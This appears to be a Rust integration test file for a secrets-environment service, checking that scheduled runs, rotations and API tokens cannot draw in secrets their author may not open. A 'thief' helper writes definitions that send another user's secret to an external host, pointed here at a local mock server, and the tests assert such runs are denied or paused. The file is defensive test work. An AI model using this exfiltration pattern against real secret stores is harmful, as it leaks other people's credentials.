//! What a schedule draws in, and on whose word: nobody gets out of one what they could not open.

use serde_json::json;

use crate::app::{TestApp, line};
use crate::providers::host::Host;

const PROD: &str = "/api/esc/environments/acme/web/prod";
const DAY: i64 = 86_400;

/// A definition of somebody who wants to have what another environment holds.
fn thief(host: &Host, secret: &str) -> String {
    format!(
        "values:\n  it: {{fn::open::external: {{url: \"{}\", request: {{stolen: \"${{{secret}}}\"}}}}}}\n",
        host.url
    )
}

/// What all members of the organisation may do with its environments.
async fn members_may(app: &TestApp, permission: &str) {
    let body = json!({ "setDefaultEnvironmentPermission": permission }).to_string();
    app.user("ada").patch("/api/orgs/acme").body(body).await.expect(200);
}

/// Ada's secret, which alice may read and not open, and alice's environment, for which ada has a schedule.
async fn with_schedule(host: &Host, prod: &str) -> (TestApp, String) {
    let app = TestApp::calling(host.allowed()).await;
    members_may(&app, "read").await;
    app.environment("ada", "web/secret", "values: {key: {fn::secret: hunter2}}").await;
    app.environment("alice", "web/base", "values: {it: 1}").await;
    app.environment("alice", "web/prod", "values: {a: 1}").await;
    let ada = app.user("ada");
    if !prod.is_empty() {
        ada.patch(PROD).body(prod.to_owned()).await.expect(200);
    }
    let body = r#"{"scheduleCron":"0 3 * * *"}"#;
    let made = ada.post(&format!("{PROD}/schedules")).body(body).await.expect(200).json();
    (app, format!("{PROD}/schedules/{}", made["id"].as_str().unwrap()))
}

/// Lets a day pass; gives how the runs ended, the newest first, and how often the host was asked.
async fn next_day(app: &TestApp, schedule: &str, host: &Host) -> (Vec<String>, usize) {
    app.clock().forward(DAY);
    app.engine().run_due_schedules().await.unwrap();
    let history = app.user("ada").get(&format!("{schedule}/history")).await.expect(200).json();
    let runs = history["scheduleHistoryEvents"].as_array().unwrap().iter();
    let results = runs.map(|run| run["result"].as_str().unwrap().to_owned()).collect();
    (results, host.asked.lock().unwrap().len())
}

#[tokio::test]
async fn whoever_writes_a_definition_gets_nothing_out_of_a_schedule_that_they_may_not_open() {
    let Some(host) = Host::answering(200, "{}").await else { return };
    let imported = format!("imports: [web/secret]\n{}", thief(&host, "key"));
    let reached = thief(&host, "environments.web.secret.key");
    for (at, definition, prod) in [
        ("prod", &imported, ""),
        ("prod", &reached, ""),
        ("base", &imported, "imports: [web/base]"),
        ("base", &reached, "imports: [web/base]"),
        ("base", &imported, "values: {a: \"${environments.web.base.it}\"}"),
    ] {
        host.asked.lock().unwrap().clear();
        let (app, schedule) = with_schedule(&host, prod).await;
        let alice = app.user("alice");
        let written = alice.patch(&format!("/api/esc/environments/acme/web/{at}")).body(definition.clone()).await;
        written.expect(200);
        app.mark(Some("acme")).await;
        assert_eq!(next_day(&app, &schedule, &host).await, (vec!["denied".to_owned()], 0), "{at}: {definition}");
        let entries = app.entries(Some("acme")).await;
        let expected = [
            "escriba-schedule-run  acme/web/prod  system  intended",
            "environment-rotated  acme/web/prod  system  denied  permission-missing",
            "escriba-schedule-run  acme/web/prod  system  denied  permission-missing",
            "environment-schedule-updated  acme/web/prod  system  succeeded",
        ];
        assert_eq!(entries.iter().map(line).collect::<Vec<_>>(), expected);
        let (run, paused) = (entries[2].leaf.as_leaf(), entries[3].leaf.as_leaf());
        assert_eq!(paused.causes().collect::<Vec<_>>(), [run.id()]);
        assert_eq!(paused.detail("change").unwrap().to_string(), "paused");
        assert_eq!(app.user("ada").get(&schedule).await.expect(200).json()["paused"], true);

        // Once alice may open it, it is hers to give.
        members_may(&app, "open").await;
        app.user("ada").post(&format!("{schedule}/resume")).await.expect(200);
        let (runs, asked) = next_day(&app, &schedule, &host).await;
        assert_eq!((runs, asked), (vec!["succeeded".to_owned(), "denied".to_owned()], 1), "{at}: {definition}");
    }
}

#[tokio::test]
async fn whoever_edits_a_schedule_answers_for_the_definition_as_it_is_then_and_for_no_later_one() {
    let Some(host) = Host::answering(200, "{}").await else { return };
    let (app, schedule) = with_schedule(&host, "").await;
    let definition = thief(&host, "environments.web.secret.key");
    app.user("alice").patch(PROD).body(definition.clone()).await.expect(200);
    app.user("ada").patch(&schedule).body(r#"{"scheduleCron":"0 4 * * *"}"#).await.expect(200);
    assert_eq!(next_day(&app, &schedule, &host).await, (vec!["succeeded".to_owned()], 1));
    app.user("alice").patch(PROD).body(format!("{definition}  more: 1\n")).await.expect(200);
    let expected = vec!["denied".to_owned(), "succeeded".to_owned()];
    assert_eq!(next_day(&app, &schedule, &host).await, (expected, 1));
}

#[tokio::test]
async fn what_a_rotation_wrote_is_still_on_the_word_of_whoever_wrote_the_rest() {
    let Some(host) = Host::answering(200, r#"{"key":"k3y"}"#).await else { return };
    let (app, schedule) = with_schedule(&host, "").await;
    members_may(&app, "open").await;
    let definition = format!(
        "imports: [web/secret]\nvalues:\n  it: {{fn::rotate::external: {{inputs: {{url: \"{}\", request: {{stolen: \"${{key}}\"}}}}}}}}\n",
        host.url
    );
    app.user("alice").patch(PROD).body(definition).await.expect(200);
    assert_eq!(next_day(&app, &schedule, &host).await, (vec!["succeeded".to_owned()], 1));
    // By hand too, which makes no author of whoever does it.
    app.user("ada").post(&format!("{PROD}/rotate")).await.expect(200);
    members_may(&app, "read").await;
    let expected = vec!["denied".to_owned(), "succeeded".to_owned()];
    assert_eq!(next_day(&app, &schedule, &host).await, (expected, 2));
}

#[tokio::test]
async fn a_schedule_whose_editor_may_no_longer_open_what_it_draws_in_is_paused() {
    let Some(host) = Host::answering(200, "{}").await else { return };
    let app = TestApp::calling(host.allowed()).await;
    members_may(&app, "open").await;
    app.environment("ada", "web/secret", "values: {key: {fn::secret: hunter2}}").await;
    app.environment("alice", "web/prod", &thief(&host, "environments.web.secret.key")).await;
    let body = r#"{"scheduleCron":"0 3 * * *"}"#;
    let made = app.user("alice").post(&format!("{PROD}/schedules")).body(body).await.expect(200).json();
    let schedule = format!("{PROD}/schedules/{}", made["id"].as_str().unwrap());
    assert_eq!(next_day(&app, &schedule, &host).await, (vec!["succeeded".to_owned()], 1));
    members_may(&app, "none").await;
    let expected = vec!["denied".to_owned(), "succeeded".to_owned()];
    assert_eq!(next_day(&app, &schedule, &host).await, (expected, 1));
    assert_eq!(app.user("alice").get(&schedule).await.expect(200).json()["paused"], true);
}

#[tokio::test]
async fn a_program_that_wrote_a_definition_is_one_as_long_as_a_token_of_it_is_good() {
    let Some(host) = Host::answering(200, "{}").await else { return };
    let (app, schedule) = with_schedule(&host, "").await;
    members_may(&app, "write").await;
    let body = r#"{"name":"ci","description":"","admin":false,"expires":0}"#;
    let token = app.user("ada").post("/api/orgs/acme/tokens").body(body).await.expect(200).json();
    let program = app.bearer(token["tokenValue"].as_str().unwrap());
    program.patch(PROD).body(thief(&host, "environments.web.secret.key")).await.expect(200);
    assert_eq!(next_day(&app, &schedule, &host).await, (vec!["succeeded".to_owned()], 1));
    let id = token["id"].as_str().unwrap();
    app.user("ada").delete(&format!("/api/orgs/acme/tokens/{id}")).await.expect(204);
    let expected = vec!["denied".to_owned(), "succeeded".to_owned()];
    assert_eq!(next_day(&app, &schedule, &host).await, (expected, 1));
}

#[tokio::test]
async fn whoever_rotates_an_environment_only_opens_what_it_imports() {
    let app = TestApp::start().await;
    members_may(&app, "open").await;
    app.environment("ada", "web/secret", "values: {key: {fn::secret: hunter2}}").await;
    app.environment("alice", "web/prod", "imports: [web/secret]\nvalues: {a: \"${key}\"}").await;
    app.user("alice").post(&format!("{PROD}/rotate")).await.expect(200);
    members_may(&app, "read").await;
    app.user("alice").post(&format!("{PROD}/rotate")).await.expect(400);
}

#[tokio::test]
async fn a_program_gains_nothing_by_another_token_of_its_organization() {
    let Some(host) = Host::answering(200, "{}").await else { return };
    let (app, _) = with_schedule(&host, "").await;
    let mut tokens = Vec::new();
    for (name, admin) in [("setup", true), ("job", false)] {
        let body = json!({ "name": name, "description": "", "admin": admin, "expires": 0 }).to_string();
        let made = app.user("ada").post("/api/orgs/acme/tokens").body(body).await.expect(200).json();
        tokens.push(made["tokenValue"].as_str().unwrap().to_owned());
    }
    let job = app.bearer(&tokens[1]);
    job.post("/api/esc/environments/acme").body(r#"{"project":"web","name":"job"}"#).await.expect(204);
    let path = "/api/esc/environments/acme/web/job";
    let schedules = format!("{path}/schedules");
    let made = app.user("ada").post(&schedules).body(r#"{"scheduleCron":"0 3 * * *"}"#).await.expect(200).json();
    job.patch(path).body(thief(&host, "environments.web.secret.key")).await.expect(200);
    let schedule = format!("{schedules}/{}", made["id"].as_str().unwrap());
    assert_eq!(next_day(&app, &schedule, &host).await, (vec!["denied".to_owned()], 0));
}
